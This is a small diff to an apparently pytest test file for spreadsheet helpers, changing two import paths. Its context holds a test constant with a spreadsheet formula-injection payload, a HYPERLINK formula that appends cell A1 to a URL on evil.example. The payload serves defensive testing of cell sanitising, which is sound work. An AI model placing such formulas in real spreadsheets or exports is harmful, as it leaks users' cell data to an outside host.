@@ -7,8 +7,8 @@ from datetime import date
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from knowledge import taxonomy_changes as changes
-from knowledge.spreadsheet import append_row, csv_cell
+from knowledge.taxonomy import changes
+from knowledge.core.spreadsheet import append_row, csv_cell
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")'
 
